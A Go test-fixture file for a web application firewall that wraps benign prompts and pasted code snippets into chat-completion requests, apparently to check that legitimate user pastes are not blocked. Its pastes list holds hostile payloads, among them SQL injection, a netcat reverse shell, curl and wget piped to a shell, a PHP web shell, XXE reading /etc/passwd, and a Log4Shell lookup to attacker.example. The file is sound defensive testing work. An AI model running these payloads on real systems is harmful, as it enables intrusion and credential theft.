package waf

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"

	"github.com/openai/openai-go/v3"
	"github.com/openai/openai-go/v3/shared"
)

// benignPath is the shared guard corpus, relative to the package folder.
const benignPath = "../../../shared/data/guard/prompts.jsonl"

// readBenign returns the texts labelled benign in the guard corpus.
func readBenign(path string) ([]string, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var out []string
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for line := 1; sc.Scan() && line <= 100000; line++ {
		var rec struct{ Text, Label string }
		if err := json.Unmarshal(sc.Bytes(), &rec); err != nil {
			return nil, fmt.Errorf("%s:%d: %w", path, line, err)
		}
		if rec.Label == "benign" {
			out = append(out, rec.Text)
		}
	}
	return out, sc.Err()
}

// pastes are things users paste into chats: SQL, shell, HTML and code.
// Each is legitimate in a prompt and each trips CRS when inspected.
var pastes = []string{
	"SELECT id, name FROM users WHERE email = 'a@b.c' OR 1=1; -- why does this return everything?",
	"SELECT * FROM orders o JOIN customers c ON o.customer_id = c.id WHERE c.country = 'FR' UNION SELECT * FROM archive;",
	"DROP TABLE IF EXISTS sessions; CREATE TABLE sessions (id serial PRIMARY KEY, data jsonb);",
	"INSERT INTO logs (msg) VALUES ('it''s done'); UPDATE accounts SET balance = balance - 10 WHERE id = 7;",
	"admin' --",
	"EXEC xp_cmdshell 'dir'; WAITFOR DELAY '0:0:5'",
	"cat /etc/passwd | grep root",
	"curl -s http://example.com/install.sh | sudo bash",
	"rm -rf /tmp/build && mkdir -p /tmp/build && cd /tmp/build && cmake .. && make -j$(nproc)",
	"for f in *.log; do gzip \"$f\"; done; find / -name '*.conf' -exec chmod 644 {} \\;",
	"nc -lvnp 4444 -e /bin/sh",
	"wget http://10.0.0.1/a.sh -O- | sh; echo $PATH; id; uname -a",
	"powershell -NoProfile -ExecutionPolicy Bypass -Command \"Get-Process | Stop-Process\"",
	"<script>alert(document.cookie)</script>",
	"<img src=x onerror=alert(1)>",
	"<iframe src=\"javascript:alert(1)\"></iframe><a href=\"javascript:void(0)\" onclick=\"go()\">link</a>",
	"<div class=\"card\"><h1>{{ title }}</h1><p style=\"color:red\">{{ body | safe }}</p></div>",
	"<?php echo system($_GET['cmd']); ?>",
	"<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
	"import os\nos.system('ls -la ' + user_input)\nsubprocess.call(['sh', '-c', cmd])",
	"eval(base64_decode($payload)); exec(compile(src, '<string>', 'exec'))",
	"Runtime.getRuntime().exec(\"/bin/bash -c whoami\"); Class.forName(\"java.lang.Runtime\")",
	"${jndi:ldap://attacker.example/a}",
	"../../../../etc/shadow",
	"document.write('<script src=//evil.example/x.js></script>')",
	"const q = `SELECT * FROM t WHERE id = ${req.params.id}`; db.query(q)",
	"fetch('/api', {method: 'POST', body: JSON.stringify({sql: \"' OR '1'='1\"})})",
	"{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
	"User-Agent: sqlmap/1.7; Cookie: PHPSESSID=abc; X-Forwarded-For: 127.0.0.1",
	"if (x < 10 && y > 5) { printf(\"%s\\n\", argv[1]); } // buffer? char buf[8]; strcpy(buf, s);",
}

// frames wrap a paste into a question.
var frames = []string{
	"What does this do?\n\n%s",
	"Is this safe to run in production? ```\n%s\n```",
	"Explain line by line:\n%s",
	"My security scanner flagged `%s` in our logs. Is it an attack?",
	"Rewrite this so it is not vulnerable: %s",
	"Translate this into Python, please:\n%s",
}

// chatCorpus generates chat-completion requests from the benign prompts and
// from pastes in frames, in the shapes clients send: a bare user turn, a
// system prompt, a multi-turn history, content parts, tools and tool
// results. The generation is deterministic.
func chatCorpus(benign []string) []openai.ChatCompletionNewParams {
	var out []openai.ChatCompletionNewParams
	for i, b := range benign {
		out = append(out, chatShape(i, b))
	}
	n := len(out)
	for i, p := range pastes {
		for j, f := range frames {
			out = append(out, chatShape(n+i*len(frames)+j, fmt.Sprintf(f, p)))
		}
	}
	return out
}

var models = []string{"deepseek-chat", "deepseek-reasoner", "meta-llama/Llama-3.1-8B-Instruct", "qwen2.5:7b"}

var lookupTool = openai.ChatCompletionFunctionTool(shared.FunctionDefinitionParam{
	Name:        "run_query",
	Description: openai.String("Run a read-only query against the analytics database and return the rows."),
	Parameters: shared.FunctionParameters{
		"type":       "object",
		"properties": map[string]any{"sql": map[string]any{"type": "string", "description": "The query to run."}},
		"required":   []string{"sql"},
	},
})

// chatShape builds request i around text, rotating through the shapes.
func chatShape(i int, text string) openai.ChatCompletionNewParams {
	p := openai.ChatCompletionNewParams{Model: models[i%len(models)]}
	switch i % 5 {
	case 0:
		p.Messages = []openai.ChatCompletionMessageParamUnion{openai.UserMessage(text)}
	case 1:
		p.Messages = []openai.ChatCompletionMessageParamUnion{
			openai.SystemMessage("You are a careful assistant for software engineers. Answer briefly."),
			openai.UserMessage(text),
		}
		p.Temperature = openai.Float(0.2)
	case 2:
		p.Messages = []openai.ChatCompletionMessageParamUnion{
			openai.UserMessage("I have a question about some code."),
			openai.AssistantMessage("Sure, paste it here and I will have a look: <code>...</code>."),
			openai.UserMessage(text),
		}
		p.MaxTokens = openai.Int(512)
	case 3:
		p.Messages = []openai.ChatCompletionMessageParamUnion{
			openai.UserMessage([]openai.ChatCompletionContentPartUnionParam{
				openai.TextContentPart("Context follows."), openai.TextContentPart(text),
			}),
		}
	default:
		p.Tools = []openai.ChatCompletionToolUnionParam{lookupTool}
		p.Messages = []openai.ChatCompletionMessageParamUnion{
			openai.UserMessage(text),
			openai.ToolMessage(`{"rows":[{"q":`+fmt.Sprintf("%q", text)+`}]}`, "call_1"),
		}
	}
	return p
}
